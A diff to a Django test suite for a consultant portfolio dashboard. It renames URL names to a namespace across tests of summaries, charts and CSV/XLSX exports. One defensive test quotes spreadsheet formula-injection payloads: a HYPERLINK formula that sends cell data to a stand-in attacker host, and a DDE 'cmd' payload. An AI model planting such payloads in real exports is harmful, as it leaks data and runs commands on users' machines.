@@ -44,7 +44,7 @@ def clients(firm_a, mini_framework):
 
 def test_the_portfolio_summarises_every_client_once(client, consultant, clients):
     client.force_login(consultant)
-    response = client.get(reverse("consultant_portfolio"))
+    response = client.get(reverse("consultants:portfolio"))
     assert response.status_code == 200
     summary = response.context["summary"]
     assert summary.client_count == 4
@@ -62,7 +62,7 @@ def test_the_portfolio_summarises_every_client_once(client, consultant, clients)
 
 def test_the_maturity_distribution_counts_every_client(client, consultant, clients):
     client.force_login(consultant)
-    summary = client.get(reverse("consultant_portfolio")).context["summary"]
+    summary = client.get(reverse("consultants:portfolio")).context["summary"]
     distribution = dict(summary.maturity_distribution)
     assert sum(distribution.values()) == 4
     assert distribution["Not yet scored"] == 1
@@ -79,7 +79,7 @@ def test_the_maturity_chart_is_an_svg_with_a_title_and_a_table_alternative(
     client, consultant, clients
 ):
     client.force_login(consultant)
-    html = client.get(reverse("consultant_portfolio")).content.decode()
+    html = client.get(reverse("consultants:portfolio")).content.decode()
     assert '<svg class="chart"' in html and 'role="img"' in html
     assert '<title id="maturity-chart-title">Number of clients at each maturity level</title>' in (
         html
@@ -92,7 +92,7 @@ def test_the_weakest_questions_use_the_latest_submission_of_each_client(
     client, consultant, clients
 ):
     client.force_login(consultant)
-    weakest = client.get(reverse("consultant_portfolio")).context["summary"].weakest_questions
+    weakest = client.get(reverse("consultants:portfolio")).context["summary"].weakest_questions
     assert len(weakest) == 10
     assert weakest[0].code == "FI-A-01"
     assert weakest[0].mean_percent == 0
@@ -110,7 +110,7 @@ def test_the_weakest_questions_use_the_latest_submission_of_each_client(
 def test_sector_breakdown(client, consultant, clients):
     client.force_login(consultant)
     sectors = {
-        s.label: s for s in client.get(reverse("consultant_portfolio")).context["summary"].sectors
+        s.label: s for s in client.get(reverse("consultants:portfolio")).context["summary"].sectors
     }
     assert set(sectors) == {"Retail", "Manufacturing", "Service", "Technology"}
     assert sectors["Technology"].clients == 1 and sectors["Technology"].scored == 0
@@ -122,7 +122,7 @@ def test_sector_breakdown(client, consultant, clients):
 
 def test_an_empty_portfolio_renders(client, consultant, mini_framework):
     client.force_login(consultant)
-    response = client.get(reverse("consultant_portfolio"))
+    response = client.get(reverse("consultants:portfolio"))
     assert response.status_code == 200
     assert b"No client has submitted an assessment yet." in response.content
 
@@ -142,7 +142,7 @@ def read_xlsx(response):
 
 def test_the_portfolio_exports_as_csv_with_safe_headers(client, consultant, clients):
     client.force_login(consultant)
-    response = client.get(reverse("consultant_portfolio_export", args=["csv"]))
+    response = client.get(reverse("consultants:portfolio_export", args=["csv"]))
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert "no-store" in response["Cache-Control"].split(", ")
@@ -168,7 +168,7 @@ def test_the_portfolio_exports_as_csv_with_safe_headers(client, consultant, clie
 
 def test_the_portfolio_exports_as_xlsx(client, consultant, clients):
     client.force_login(consultant)
-    response = client.get(reverse("consultant_portfolio_export", args=["xlsx"]))
+    response = client.get(reverse("consultants:portfolio_export", args=["xlsx"]))
     assert response.status_code == 200
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     assert response["Content-Disposition"].endswith('.xlsx"')
@@ -187,7 +187,7 @@ def test_the_portfolio_exports_as_xlsx(client, consultant, clients):
 def test_the_export_follows_the_dashboard_filters(client, consultant, clients):
     client.force_login(consultant)
     response = client.get(
-        reverse("consultant_portfolio_export", args=["csv"]), {"sector": "retail", "page": "x"}
+        reverse("consultants:portfolio_export", args=["csv"]), {"sector": "retail", "page": "x"}
     )
     assert [r["Organization"] for r in read_csv(response)] == ["Anchor Bakery"]
 
@@ -205,7 +205,7 @@ def test_one_assessments_answers_export_as_csv_and_xlsx(client, consultant, clie
         note="Bank overdraft agreed in May."
     )
     client.force_login(consultant)
-    response = client.get(reverse("consultant_assessment_export", args=[assessment.pk, "csv"]))
+    response = client.get(reverse("consultants:assessment_export", args=[assessment.pk, "csv"]))
     assert response.status_code == 200
     assert "no-store" in response["Cache-Control"].split(", ")
     assert response["Content-Disposition"].startswith(
@@ -233,7 +233,7 @@ def test_one_assessments_answers_export_as_csv_and_xlsx(client, consultant, clie
     assert by_code["OP-F-01"]["Pillar"] == "Operational resilience"
     assert by_code["OP-F-01"]["Level"] == "Fundamentals"
 
-    response = client.get(reverse("consultant_assessment_export", args=[assessment.pk, "xlsx"]))
+    response = client.get(reverse("consultants:assessment_export", args=[assessment.pk, "xlsx"]))
     sheet, rows = read_xlsx(response)
     assert sheet.title == "Answers"
     assert len(rows) == 12
@@ -248,7 +248,7 @@ def test_an_in_progress_assessment_exports_its_unanswered_questions(
     assessment = assessment_start(organization=client_org, user=client_owner)
     client.force_login(consultant)
     rows = read_csv(
-        client.get(reverse("consultant_assessment_export", args=[assessment.pk, "csv"]))
+        client.get(reverse("consultants:assessment_export", args=[assessment.pk, "csv"]))
     )
     assert {r["Answer"] for r in rows} == {"Not answered"}
 
@@ -281,19 +281,19 @@ def test_formulas_in_client_data_are_never_formulas_in_the_exports(client, consu
     )
     client.force_login(consultant)
 
-    rows = read_csv(client.get(reverse("consultant_portfolio_export", args=["csv"])))
+    rows = read_csv(client.get(reverse("consultants:portfolio_export", args=["csv"])))
     evil = next(r for r in rows if "HYPERLINK" in r["Organization"])
     assert evil["Organization"].startswith("'=")
     assert evil["Region"] == "'@SUM(1+1)"
 
-    sheet, rows = read_xlsx(client.get(reverse("consultant_portfolio_export", args=["xlsx"])))
+    sheet, rows = read_xlsx(client.get(reverse("consultants:portfolio_export", args=["xlsx"])))
     for row in sheet.iter_rows():
         for cell in row:
             assert cell.data_type != "f", cell.coordinate
     assert any(r["Organization"] == '=HYPERLINK("http://evil.example/?"&A1,"x")' for r in rows)
 
     answers = read_csv(
-        client.get(reverse("consultant_assessment_export", args=[assessment.pk, "csv"]))
+        client.get(reverse("consultants:assessment_export", args=[assessment.pk, "csv"]))
     )
     note = next(r["Note"] for r in answers if r["Question ID"] == "OP-F-01")
     assert note == "'-cmd|' /C calc'!A0"
@@ -311,13 +311,13 @@ def test_control_characters_pasted_into_client_text_never_break_the_exports(
     )
     client.force_login(consultant)
 
-    _, rows = read_xlsx(client.get(reverse("consultant_portfolio_export", args=["xlsx"])))
+    _, rows = read_xlsx(client.get(reverse("consultants:portfolio_export", args=["xlsx"])))
     assert any(r["Organization"] == "CornerBakery" and r["Region"] == "Wales" for r in rows)
-    rows = read_csv(client.get(reverse("consultant_portfolio_export", args=["csv"])))
+    rows = read_csv(client.get(reverse("consultants:portfolio_export", args=["csv"])))
     assert any(r["Organization"] == "CornerBakery" for r in rows)
 
     for fmt, read in (("xlsx", lambda r: read_xlsx(r)[1]), ("csv", read_csv)):
-        url = reverse("consultant_assessment_export", args=[assessment.pk, fmt])
+        url = reverse("consultants:assessment_export", args=[assessment.pk, fmt])
         answers = read(client.get(url))
         note = next(r["Note"] for r in answers if r["Question ID"] == "OP-F-01")
         assert note == "Line oneline two\tand a tab\nand a line", fmt
